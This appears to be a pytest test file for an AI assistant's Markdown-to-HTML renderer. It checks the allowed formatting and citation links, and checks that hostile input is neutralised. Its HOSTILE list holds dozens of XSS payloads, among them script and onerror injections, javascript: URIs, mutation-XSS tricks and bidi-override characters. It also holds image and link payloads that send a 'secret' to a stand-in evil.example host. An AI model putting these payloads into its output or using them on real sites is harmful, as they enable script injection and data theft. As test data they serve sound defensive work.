"""What a model wrote, as HTML: what it may look like, and that nothing else comes through."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from ai_assistant.hooks import Record
from ai_assistant.rendering import to_html

INVOICE = Record("invoices:7", "Фактура <7>", "/o/lipa/invoices/7/?tab=a&b")
CITED = {INVOICE.id: INVOICE}
CITE = '<a class="k-cite" href="/o/lipa/invoices/7/?tab=a&amp;b">Фактура &lt;7&gt;</a>'
STRUCTURE = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "ul", "ol", "li", "blockquote", "pre", "code",
    "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip


class Page(HTMLParser):
    """The elements of a fragment with their attributes; fails on one that is closed in the wrong place."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def assert_harmless(html: str) -> None:
    """Only text and its structure; links to cited records alone."""
    for tag, attributes in Page(html).elements:
        assert tag in STRUCTURE, tag
        assert set(attributes) <= {"class", "start", "href"}, attributes
        if tag == "a":
            assert attributes == {"class": "k-cite", "href": INVOICE.url}
        else:
            assert attributes.get("class") in (None, "text-end", "text-center")


# --- What it may look like --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Дължат **общо** *днес* `x`", "<p>Дължат <strong>общо</strong> <em>днес</em> <code>x</code></p>"),
        ("ред\nред", "<p>ред<br>\nред</p>"),
        ("- а\n- б", "<ul>\n<li>а</li>\n<li>б</li>\n</ul>"),
        ("3. а\n4. б", '<ol start="3">\n<li>а</li>\n<li>б</li>\n</ol>'),
        ("> цитат", "<blockquote>\n<p>цитат</p>\n</blockquote>"),
        ("```sql\nSELECT '<b>'\n```", "<pre><code>SELECT '&lt;b&gt;'\n</code></pre>"),
        ("# А\n### Б\n# В", "<h2>А</h2>\n<h3>Б</h3>\n<h2>В</h2>"),
        ("1 < 2 & 3 > 2 &amp; &#60;", "<p>1 &lt; 2 &amp; 3 &gt; 2 &amp; &lt;</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert to_html(text, {}).strip() == html


def test_columns_are_aligned_without_a_style() -> None:
    html = to_html("|Клиент|Сума|\n|:--|--:|\n|Синя скала|2 600,00 €|", {})
    assert "<th>Клиент</th>" in html
    assert '<td class="text-end">2 600,00 €</td>' in html
    assert "style" not in html


# --- Citations --------------------------------------------------------------------------------------------------------
def test_a_cited_record_is_a_link_to_its_page() -> None:
    assert to_html("Дължи [[invoices:7]].", CITED) == f"<p>Дължи {CITE}.</p>\n"
    assert to_html("**[[invoices:7]]**[[invoices:7]]", CITED) == f"<p><strong>{CITE}</strong>{CITE}</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "[[invoices:8]]", "[[invoices: 7]]", "[[INVOICES:7]]", "[[]]", "[[invoices:7]", "[[invoices:7", "[[",
        "[[https://evil.example]]", "[[javascript:alert(1)]]", "[invoices:7]", "`[[invoices:7]]`", r"\[[invoices:7]]",
        "[[invoices:7](https://evil.example)", "[[" + "x" * 300 + ":7]]",
    ],
)  # fmt: skip
def test_no_other_record_is_a_link(text: str) -> None:
    html = to_html(text, CITED)
    assert "<a" not in html
    assert text.replace("`", "").lstrip("\\") in html


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://evil.example/", "data:text/html,x"])
def test_a_citation_leads_nowhere_outside(url: str) -> None:
    assert "href" not in to_html("[[x:1]]", {"x:1": Record("x:1", "запис", url)})


# --- What must not come through ---------------------------------------------------------------------------------------
HOSTILE = [
    # pictures, in every notation
    "![x](https://evil.example/p.png?q=secret)",
    '![x](https://evil.example/p.png "t")',
    "![x][r]\n\n[r]: https://evil.example",
    "![r]\n\n[r]: <https://evil.example>",
    "[![x](https://evil.example/p)](https://evil.example)",
    "![](//evil.example/p)",
    '<img src="https://evil.example/p">',
    "<IMG SRC=//evil.example onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<picture><source srcset="https://evil.example"></picture>',
    "<svg/onload=alert(1)>",
    "<svg><image href=//evil.example>",
    '<p style="background:url(https://evil.example)">',
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    '<video poster="//evil.example"></video>',
    "<audio src=//evil.example autoplay>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "!\\[x](https://evil.example)",
    "&#33;[x](https://evil.example)",
    # links
    "[x](https://evil.example)",
    "[x](<https://evil.example>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,x)",
    "[x](/o/lipa/settings/)",
    "[x](//evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: https://evil.example",
    "[r][]\n\n[r]: /x",
    "<https://evil.example>",
    "<mailto:a@evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example",
    "www.evil.example",
    "a@evil.example",
    "[x](mailto:a@evil.example?body=secret)",
    "[x](tel:+359)",
    '<a href="https://evil.example">x</a>',
    "<a href=javascript:alert(1)>x",
    # scripts, forms, frames
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe src=//evil.example>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<button formaction=//evil.example>x",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=/o/lipa/ hx-trigger=load>",
    "<p data-bs-toggle=modal data-live=/ws/>",
    "<p id=list class=k-toast>",
    # comments, declarations, entities, quotes out of attributes
    "<!-- x -->",
    "<!-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x&#x3E;",
    "\x00<script>",
    "<\x00script>",
    "\u202e<script>",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    '# <img src="x">',
    "|<img src=x>|[x](//evil.example)|\n|--|--|\n|<script>|![x](//evil.example)|",
    "- <img src=x>\n  - [x](//evil.example)",
    "> <script>",
    "3. <script>",
    "99999999999999999999. x",
    '0" onclick="alert(1). x',
    "**<b onclick=alert(1)>x**",
    "</p></div></main><h1>x</h1>",
    # a citation as a carrier
    "[[invoices:7]](https://evil.example)",
    "![[invoices:7]](https://evil.example)",
    "[x]([[invoices:7]])",
    "<[[invoices:7]]>",
    '<a href="[[invoices:7]]">',
    '[[invoices:7" onclick="alert(1)]]',
    "[[[invoices:7]]]",
    "[[invoices:7]][[invoices:7]]: https://evil.example",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_else_comes_through(text: str) -> None:
    assert_harmless(to_html(text, CITED))
    assert_harmless(to_html(f"Ето:\n\n{text}\n\n**край**", CITED))


def test_html_is_shown_as_the_text_it_is() -> None:
    assert to_html("<b>x</b> <!-- y -->", {}) == "<p>&lt;b&gt;x&lt;/b&gt; &lt;!-- y --&gt;</p>\n"


def test_what_turns_the_direction_of_writing_is_left_out() -> None:
    hidden = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(1, 9), 0x1B, 0x7F, *range(0x80, 0xA0)]
    text = "x" + "".join(map(chr, hidden)) + "&#x202e;&#8294;gpj.exe"
    cited = {"deals:1": Record("deals:1", "a\u202eb", "/deals/1/")}
    assert to_html(f"{text} [[deals:1]]", cited) == '<p>xgpj.exe <a class="k-cite" href="/deals/1/">ab</a></p>\n'


def test_a_text_that_is_still_being_written_is_closed_where_it_ends() -> None:
    table = "|а|б|\n|--|--:|\n|[[invoices:7]]|![x](https://evil.example)|"
    whole = f"# А **б\n\n- в *г\n  1. `д\n\n{table}\n\n> ```html\n> <script>"
    for length in range(len(whole) + 1):
        assert_harmless(to_html(whole[:length], CITED))


# --- However long -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "piece",
    [
        "Дължат **общо** `4 316,40 €`. ",
        "[[a",
        "[[invoices:7]] ",
        "*a ",
        "**a *b ",
        "`a",
        "> ",
        "1. ",
        "a\n",
        "|",
        "<div><b>",
        "&x",
        "- a\n  ",
        "|a|b|\n|-|-|\n" + "|1|2|\n" * 10,
        "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + "|1|\n" * 50_000,
    ],
    ids=lambda piece: repr(piece[:12]),
)
def test_a_long_answer_is_read_to_its_end(piece: str) -> None:
    """In a moment; what is not linear takes hours, and is ended by the time that a test has."""
    text = (piece * (50_000 // len(piece) + 1))[:50_000]
    assert_harmless(to_html(text, CITED))
